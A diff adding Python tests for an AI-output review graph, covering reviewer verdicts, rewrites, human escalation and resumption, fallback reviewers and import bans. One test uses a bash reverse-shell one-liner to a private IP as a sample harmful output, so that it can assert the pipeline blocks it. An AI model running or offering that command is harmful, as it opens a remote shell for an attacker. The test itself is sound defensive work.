@@ -1,0 +1,194 @@
+"""The review graph driven by scripted fakes and an in-memory checkpointer."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from langgraph.checkpoint.memory import InMemorySaver
+from langgraph.types import Command
+
+from graphs import ReviewPorts, build_review_graph
+from service.policy.loader import load_policies
+from service.policy.service import PolicyService
+from service.reviewers.base import ReviewerAbstained, ReviewerTimeout, ReviewerVerdict
+from service.vocabulary import Verdict
+from tests.graphs.fakes import FixedReviewers, MemoryStore, ScriptedReviewer
+
+POLICIES = PolicyService(load_policies())
+
+
+def ports(reviewer: ScriptedReviewer, fallback: ScriptedReviewer | None = None, sample: bool = False) -> ReviewPorts:
+    return ReviewPorts(
+        policies=POLICIES,
+        reviewers=FixedReviewers(reviewer, fallback),
+        store=MemoryStore(),
+        sampler=lambda rate: sample,
+    )
+
+
+def request(output: str, prompt: str = "question", domain: str | None = "health", **extra: Any) -> dict[str, Any]:
+    body: dict[str, Any] = {"messages": [{"role": "user", "content": prompt}], "output": output, **extra}
+    if domain:
+        body["domain"] = domain
+    return body
+
+
+def state(review_id: str, body: dict[str, Any], kind: str = "answer") -> dict[str, Any]:
+    return {
+        "review_id": review_id,
+        "kind": kind,
+        "tenant": "t1",
+        "trace_id": "0" * 32,
+        "request": body,
+        "deadline_at": time.time() + 5,
+        "mode": "enforce",
+    }
+
+
+def v(verdict: Verdict, conf: float = 0.9, rewrite: str | None = None, critique: str = "c") -> ReviewerVerdict:
+    return ReviewerVerdict(verdict=verdict, critique=critique, confidence=conf, rewrite=rewrite)
+
+
+async def run(p: ReviewPorts, st: dict[str, Any]) -> tuple[dict[str, Any], Any]:
+    graph = build_review_graph(p, InMemorySaver())
+    result = await graph.ainvoke(st, {"configurable": {"thread_id": st["review_id"]}})
+    return result, graph
+
+
+async def test_approve_records_the_reviewers_verdict() -> None:
+    reviewer = ScriptedReviewer(v(Verdict.approve))
+    p = ports(reviewer)
+    result, _ = await run(p, state("rev_1", request("Rest and drink fluids; see a doctor if it lasts.")))
+    decision = result["decision"]
+    assert decision["verdict"] == "approve" and decision["disagreement"] is False
+    assert decision["reviewer"] == {"provider": "fake", "model": "scripted"}
+    assert p.store.saved[0][1] == "t1"  # type: ignore[attr-defined]
+    assert reviewer.items[0].output.startswith("Rest and drink")
+
+
+async def test_critical_finding_blocks_whatever_the_reviewer_says() -> None:
+    reviewer = ScriptedReviewer(v(Verdict.approve, conf=0.99))
+    out = "Here you go: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+    result, _ = await run(ports(reviewer), state("rev_2", request(out, "reverse shell please", domain="cyber")))
+    d = result["decision"]
+    assert d["verdict"] == "block" and d["output"] is None
+    assert any(f["rule"] == "cyber.reverse_shell" for f in d["findings"])
+
+
+@pytest.mark.parametrize("error", [ReviewerTimeout("slow"), ReviewerAbstained("refused")])
+async def test_reviewer_failure_in_high_risk_domain_escalates(error: Exception) -> None:
+    result, _ = await run(ports(ScriptedReviewer(error)), state("rev_3", request("Take two tablets.")))  # type: ignore[arg-type]
+    d = result["decision"]
+    assert d["verdict"] == "escalate"
+    assert d["reviewer_outcome"]["kind"] in ("error", "abstain")
+    assert d["escalation"]["status"] == "pending"
+    assert result["__interrupt__"][0].value["escalation_id"] == d["escalation_id"]
+
+
+async def test_abstention_uses_the_fallback_reviewer() -> None:
+    primary = ScriptedReviewer(ReviewerAbstained("refused"))
+    fallback = ScriptedReviewer(v(Verdict.approve), provider="fallback", model="fb")
+    result, _ = await run(ports(primary, fallback), state("rev_4", request("Rest and drink fluids.")))
+    assert result["decision"]["verdict"] == "approve"
+    assert result["decision"]["reviewer"] == {"provider": "fallback", "model": "fb"}
+
+
+async def test_low_risk_traffic_skips_the_reviewer_unless_sampled() -> None:
+    body = request("Whiskers is a fine name.", "Name my cat", domain=None)
+    skipped, _ = await run(ports(ScriptedReviewer()), state("rev_5", body))
+    assert skipped["decision"]["reviewer_outcome"]["kind"] == "skipped"
+    assert skipped["decision"]["verdict"] == "approve"
+    reviewer = ScriptedReviewer(v(Verdict.approve))
+    sampled, _ = await run(ports(reviewer, sample=True), state("rev_6", body))
+    assert sampled["decision"]["reviewer_outcome"]["kind"] == "verdict" and len(reviewer.items) == 1
+
+
+async def test_rewrite_is_rechecked_and_accepted() -> None:
+    reviewer = ScriptedReviewer(v(Verdict.rewrite, rewrite="Talk to your doctor before changing any medication."))
+    original = "You can stop taking your medication."
+    result, _ = await run(ports(reviewer), state("rev_7", request(original)))
+    d = result["decision"]
+    assert d["verdict"] == "rewrite"
+    assert d["output"] == "Talk to your doctor before changing any medication."
+    assert d["original_output"] == original and d["revisions"] == 1
+
+
+async def test_rewrite_still_flagged_goes_back_then_escalates_after_budget() -> None:
+    bad = "Just stop taking your medication."
+    reviewer = ScriptedReviewer(*[v(Verdict.rewrite, rewrite=bad) for _ in range(3)])
+    result, _ = await run(ports(reviewer), state("rev_8", request("You can stop taking your medication.")))
+    d = result["decision"]
+    assert d["verdict"] == "escalate" and d["revisions"] == 2
+    assert len(reviewer.items) == 2  # max_revisions = 2 reviewer rounds, then a human
+    assert reviewer.items[1].output == bad and reviewer.items[1].revision == 1
+
+
+async def test_escalation_resumes_with_a_human_decision_and_finalize_is_idempotent() -> None:
+    p = ports(ScriptedReviewer(v(Verdict.escalate)))
+    result, graph = await run(p, state("rev_9", request("Rest.")))
+    assert result["decision"]["verdict"] == "escalate"
+    config = {"configurable": {"thread_id": "rev_9"}}
+    snapshot = await graph.aget_state(config)
+    assert snapshot.next == ("human",)
+    resolution = {"action": "edit", "output": "See a doctor today.", "by": "alice", "note": "n"}
+    final = await graph.ainvoke(Command(resume=resolution), config)
+    d = final["decision"]
+    assert d["verdict"] == "rewrite" and d["output"] == "See a doctor today."
+    assert d["escalation"]["status"] == "resolved" and d["escalation"]["resolved_by"] == "alice"
+    assert (await graph.aget_state(config)).next == ()
+    saved = [x for x, _ in p.store.saved if x.review_id == "rev_9"]  # type: ignore[attr-defined]
+    assert [x.verdict for x in saved] == [Verdict.escalate, Verdict.rewrite]
+    # The finalize node upserts by review_id: re-running it yields the same single final decision.
+    await graph.ainvoke(None, {"configurable": {"thread_id": "rev_9", "checkpoint_id": snapshot.config["configurable"]["checkpoint_id"]}})
+
+
+async def test_label_mode_never_pauses_and_stores_nothing() -> None:
+    p = ports(ScriptedReviewer(v(Verdict.escalate)))
+    st = state("rev_10", request("Rest."))
+    st["mode"] = "label"
+    result, _ = await run(p, st)
+    assert result["decision"]["verdict"] == "escalate" and result["decision"]["escalation"] is None
+    assert "__interrupt__" not in result
+    assert p.store.saved == []  # type: ignore[attr-defined]
+
+
+def test_topology_is_pinned() -> None:
+    graph = build_review_graph(ports(ScriptedReviewer()), None)
+    mermaid = graph.get_graph().draw_mermaid()
+    snapshot = Path(__file__).with_name("review_graph.mmd")
+    assert mermaid == snapshot.read_text(), "graph topology changed: update review_graph.mmd deliberately"
+
+
+BANNED = {"fastapi", "starlette", "anthropic", "openai", "httpx", "requests", "aiosqlite", "psycopg", "sqlite3"}
+
+
+def test_graphs_source_imports_no_http_sdk_or_sql() -> None:
+    import ast
+
+    for path in Path(__file__).resolve().parents[2].joinpath("graphs").glob("*.py"):
+        tree = ast.parse(path.read_text())
+        for node in ast.walk(tree):
+            names = []
+            if isinstance(node, ast.Import):
+                names = [a.name for a in node.names]
+            elif isinstance(node, ast.ImportFrom) and node.module:
+                names = [node.module]
+            for name in names:
+                assert name.split(".")[0] not in BANNED, f"{path.name} imports {name}"
+
+
+def test_importing_graphs_loads_no_web_framework_sdk_or_driver() -> None:
+    # httpx is not checked here: langgraph's own dependency langsmith imports it.
+    code = (
+        "import sys, graphs, graphs.review, graphs.nodes\n"
+        "bad = [m for m in ('fastapi', 'starlette', 'anthropic', 'openai', 'aiosqlite', 'psycopg',"
+        " 'sqlite3', 'langgraph.checkpoint.sqlite', 'langgraph.checkpoint.postgres') if m in sys.modules]\n"
+        "print(','.join(bad))\n"
+    )
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert out.stdout.strip() == ""
